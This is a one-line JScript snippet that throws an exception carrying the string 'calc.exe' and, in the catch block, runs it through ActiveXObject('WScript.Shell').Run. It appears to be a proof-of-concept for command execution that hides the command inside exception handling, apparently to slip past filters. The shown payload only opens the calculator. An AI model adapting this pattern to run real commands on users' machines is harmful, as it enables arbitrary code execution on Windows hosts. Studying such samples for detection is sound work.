function E(m){this.message=m}try{throw new E('calc.exe')}catch(e){new ActiveXObject('WScript.Shell').Run(e.message)}
